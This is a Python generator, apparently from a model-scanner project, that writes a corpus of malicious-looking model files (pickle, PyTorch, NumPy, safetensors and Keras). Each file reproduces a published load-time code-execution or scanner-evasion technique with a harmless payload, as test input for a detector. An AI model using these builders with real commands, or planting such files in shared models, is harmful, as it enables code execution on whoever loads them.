#!/usr/bin/env python3
"""Writes the malicious corpus: one sample per technique from the public advisories of picklescan,
modelscan, fickling, modelaudit and the Keras/PyTorch/TensorFlow CVEs of 2024-2026, into a
directory OUTSIDE the repository (default ${MODELSEAL_CORPUS:-~/.cache/modelseal-corpus}/malicious).

Only the Python standard library is used, and nothing is ever loaded or executed: every payload is
a harmless command ('true', an empty string) behind a global that would run it on load. Each
sample is written byte by byte (pickle opcodes, zip members, .npy headers) the way the advisories'
proofs of concept build them. scan-malicious.sh asserts that every sample is flagged at high or
above.

usage: generate-malicious.py [OUT_DIR]
"""
import io
import json
import os
import pickle
import struct
import sys
import zipfile


def proto(n):
    return b"\x80" + bytes([n])


def sbu(s):  # SHORT_BINUNICODE
    b = s.encode()
    return b"\x8c" + bytes([len(b)]) + b


def stack_global_call(module, name, *args, memo=False):
    """PROTO 4, module/name by STACK_GLOBAL (optionally through the memo), a tuple of str args, REDUCE."""
    out = proto(4)
    if memo:
        out += sbu(module) + b"\x940" + sbu(name) + b"\x940" + b"h\x00h\x01"  # MEMOIZE POP, BINGET
    else:
        out += sbu(module) + sbu(name)
    out += b"\x93" + b"(" + b"".join(sbu(a) for a in args) + b"t" + b"R."
    return out


def global_call(module, name, *args, protocol=2):
    out = proto(protocol) if protocol >= 2 else b""
    out += b"c" + module.encode() + b"\n" + name.encode() + b"\n"
    out += b"(" + b"".join(b"V" + a.encode() + b"\n" for a in args) + b"tR."
    return out


def torch_zip(data_pkl, name="archive/data.pkl", crc_trick=False):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as z:
        z.writestr("archive/version", "3\n")
        z.writestr(name, data_pkl)
        z.writestr("archive/byteorder", "little")
    b = bytearray(buf.getvalue())
    if crc_trick:  # wrong CRC on the pickle member, local and central (torch still loads it)
        i = 0
        while True:
            i = b.find(b"PK\x01\x02", i)
            if i < 0:
                break
            n = struct.unpack_from("<H", b, i + 28)[0]
            if b[i + 46 : i + 46 + n].decode().endswith("data.pkl"):
                local = struct.unpack_from("<I", b, i + 42)[0]
                struct.pack_into("<I", b, i + 16, 0xDEADBEEF)
                struct.pack_into("<I", b, local + 14, 0xDEADBEEF)
            i += 4
    return bytes(b)


def npy(descr, body):
    header = "{'descr': %s, 'fortran_order': False, 'shape': (1,), }" % descr
    pad = 64 - (10 + len(header) + 1) % 64
    header = header + " " * pad + "\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode("latin1") + body


def keras_zip(config):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("metadata.json", json.dumps({"keras_version": "3.8.0", "date_saved": "2025-01-01"}))
        z.writestr("config.json", json.dumps(config))
        z.writestr("model.weights.h5", b"")
    return buf.getvalue()


def keras_model(layers):
    return {
        "module": "keras",
        "class_name": "Sequential",
        "config": {"name": "sequential", "layers": layers},
        "registered_name": None,
    }


SAMPLES = {}


def sample(name, technique):
    def deco(fn):
        SAMPLES[name] = (technique, fn)
        return fn
    return deco


@sample("pickle-reduce-posix-system.pkl", "classic REDUCE of posix.system (all scanners' baseline)")
def _():
    return stack_global_call("posix", "system", "true")


@sample("pickle-protocol0-no-header.pkl", "protocol 0 pickle without the \\x80 header")
def _():
    return global_call("os", "system", "true", protocol=0)


@sample("pickle-stack-global-memo.pkl", "STACK_GLOBAL operands through the memo (picklescan #14/#23/#52)")
def _():
    return stack_global_call("builtins", "exec", "pass", memo=True)


@sample("pickle-pkgutil-resolve-name.pkl", "pkgutil.resolve_name trampoline (GHSA-vvpj-8cmc-gx39)")
def _():
    return stack_global_call("pkgutil", "resolve_name", "os:system")


@sample("pickle-importlib-import-module.pkl", "importlib.import_module resolver (picklescan #66)")
def _():
    return stack_global_call("importlib", "import_module", "os")


@sample("pickle-operator-methodcaller.pkl", "operator.methodcaller gadget (modelscan #338)")
def _():
    return stack_global_call("operator", "methodcaller", "system", "true")


@sample("pickle-functools-partial.pkl", "functools.partial gadget (modelscan additional primitives)")
def _():
    return stack_global_call("functools", "partial", "true")


@sample("pickle-torch-collect-env-run.pkl", "torch.utils.collect_env.run (modelscan #338)")
def _():
    return stack_global_call("torch.utils.collect_env", "run", "true")


@sample("pickle-spawnv-passfds.pkl", "multiprocessing.util.spawnv_passfds (unlisted gadget)")
def _():
    return stack_global_call("multiprocessing.util", "spawnv_passfds", "true")


@sample("pickle-posixsubprocess-fork-exec.pkl", "_posixsubprocess.fork_exec (PYSEC-2026-2149)")
def _():
    return stack_global_call("_posixsubprocess", "fork_exec", "true")


@sample("pickle-atexit-register.pkl", "atexit.register (fickling denylist gap, PYSEC-2026-2149)")
def _():
    return stack_global_call("atexit", "register", "true")


@sample("pickle-site-addsitedir.pkl", "site.addsitedir (fickling denylist gap, PYSEC-2026-2149)")
def _():
    return stack_global_call("site", "addsitedir", "/nonexistent")


@sample("pickle-numpy-testing-runstring.pkl", "numpy.testing._private.utils.runstring (picklescan advisories)")
def _():
    return stack_global_call("numpy.testing._private.utils", "runstring", "pass", "x")


@sample("pickle-asyncio-subprocess.pkl", "asyncio subprocess helpers (picklescan advisories)")
def _():
    return stack_global_call("asyncio.unix_events", "_UnixSubprocessTransport", "true")


@sample("pickle-bdb-run.pkl", "bdb.Bdb.run / pdb code runners (picklescan advisories)")
def _():
    return stack_global_call("bdb", "Bdb.run", "pass")


@sample("pickle-timeit.pkl", "timeit.timeit runs a statement (picklescan advisories)")
def _():
    return stack_global_call("timeit", "timeit", "pass")


@sample("pickle-cprofile-run.pkl", "cProfile.run runs a statement (picklescan advisories)")
def _():
    return stack_global_call("cProfile", "run", "pass")


@sample("pickle-code-interact.pkl", "code.InteractiveInterpreter.runsource (picklescan advisories)")
def _():
    return stack_global_call("code", "InteractiveInterpreter.runsource", "pass")


@sample("pickle-ctypes.pkl", "ctypes.CDLL loads a native library")
def _():
    return stack_global_call("ctypes", "CDLL", "libc.so.6")


@sample("pickle-torch-load-nested.pkl", "torch.load of another file from inside a pickle")
def _():
    return stack_global_call("torch", "load", "/nonexistent")


@sample("pickle-torch-serialization-attr.pkl", "builtins reached as an attribute of an allowed module (modelscan #85)")
def _():
    return stack_global_call("torch", "serialization.os.system", "true")


@sample("pickle-webbrowser-open.pkl", "webbrowser.open: network access on load")
def _():
    return stack_global_call("webbrowser", "open", "http://127.0.0.1/")


@sample("pickle-payload-then-broken.pkl", "payload before a deliberately broken opcode (GHSA-9gvj-pp9x-gcfr)")
def _():
    return stack_global_call("posix", "system", "true")[:-1] + b"\xff"


@sample("pickle-stacked-second.pkl", "payload in a second pickle after STOP (fickling #20)")
def _():
    return pickle.dumps({"a": 1}, protocol=4) + stack_global_call("posix", "system", "true")


@sample("pickle-ext-registry.pkl", "EXT1 copyreg extension registry: the global is not named")
def _():
    return proto(2) + b"\x82\x01" + b"(V1\ntR."


@sample("torch-zip-data-pkl.pt", "torch.save zip with a REDUCE in archive/data.pkl")
def _():
    return torch_zip(stack_global_call("posix", "system", "true"))


@sample("torch-zip-member-no-ext.pt", "pickle in a zip member without a pickle name (modelscan #215)")
def _():
    return torch_zip(stack_global_call("posix", "system", "true"), name="archive/weights")


@sample("torch-zip-bad-crc.pt", "zip with a wrong CRC on data.pkl (torch still loads it)")
def _():
    return torch_zip(stack_global_call("posix", "system", "true"), crc_trick=True)


@sample("torch-legacy-second-pickle.pt", "legacy torch.save: payload in the 2nd of 5 pickles")
def _():
    magic = pickle.dumps(0x1950A86A20F9469CFC6C, protocol=2)
    return magic + stack_global_call("posix", "system", "true") + pickle.dumps({}, protocol=2)


@sample("renamed-pickle.safetensors", "pickle renamed to .safetensors (extension routing, modelscan)")
def _():
    return stack_global_call("posix", "system", "true")


@sample("polyglot.safetensors", "safetensors with a pickle appended (polyglot)")
def _():
    header = json.dumps({"w": {"dtype": "F32", "shape": [1], "data_offsets": [0, 4]}}).encode()
    return struct.pack("<Q", len(header)) + header + b"\x00" * 4 + stack_global_call("posix", "system", "true")


@sample("npy-object-array.npy", "np.save(allow_pickle=True) object array carrying a REDUCE")
def _():
    return npy("'|O'", stack_global_call("posix", "system", "true"))


@sample("npy-escaped-descr.npy", "dtype spelled with escapes ('\\x7cO'): numpy unpickles it (issue 12)")
def _():
    return npy("'\\x7cO'", stack_global_call("posix", "system", "true"))


@sample("npz-object-member.npz", "object array inside an .npz member")
def _():
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("arr_0.npy", npy("'|O'", stack_global_call("posix", "system", "true")))
    return buf.getvalue()


@sample("joblib-gzip.joblib.gz", "gzip-compressed joblib pickle (modelaudit compressed wrappers)")
def _():
    import gzip
    return gzip.compress(stack_global_call("posix", "system", "true"))


@sample("keras-lambda.keras", "Keras Lambda layer with marshalled code (CVE-2024-3660)")
def _():
    return keras_zip(keras_model([{"module": "keras.layers", "class_name": "Lambda",
        "config": {"name": "l", "function": {"class_name": "__lambda__",
        "config": {"code": "4wEAAAAAAAAAAAAAAAEAAAADAAAAQwAAAHMEAAAAfABTAKkBTqkAKQHaAXhyAgAAAHICAAAA+gE8cgMAAADaCDxsYW1iZGE+AQAAAPMAAAAA", "defaults": None, "closure": None}}},
        "registered_name": None}]))


@sample("keras-unsafe-deserialization.keras", "config switching Keras safe mode off (CVE-2025-1550)")
def _():
    return keras_zip(keras_model([{"module": "keras.config", "class_name": "enable_unsafe_deserialization",
        "config": {}, "registered_name": None}]))


@sample("keras-module-os.keras", "config importing an arbitrary module (CVE-2025-1550)")
def _():
    return keras_zip(keras_model([{"module": "os", "class_name": "system", "config": {"command": "true"},
        "registered_name": None}]))


@sample("keras-stringlookup-vocabulary-file.keras", "StringLookup vocabulary read from a path at load (CVE-2025-12058)")
def _():
    return keras_zip(keras_model([{"module": "keras.layers", "class_name": "StringLookup",
        "config": {"name": "s", "vocabulary": "/etc/passwd"}, "registered_name": None}]))


def main():
    default = os.path.join(os.environ.get("MODELSEAL_CORPUS", os.path.expanduser("~/.cache/modelseal-corpus")), "malicious")
    out = sys.argv[1] if len(sys.argv) > 1 else default
    os.makedirs(out, exist_ok=True)
    index = []
    for name, (technique, fn) in sorted(SAMPLES.items()):
        with open(os.path.join(out, name), "wb") as f:
            f.write(fn())
        index.append(f"{name}\t{technique}")
    with open(os.path.join(out, "TECHNIQUES.tsv"), "w") as f:
        f.write("\n".join(index) + "\n")
    print(out)


if __name__ == "__main__":
    main()
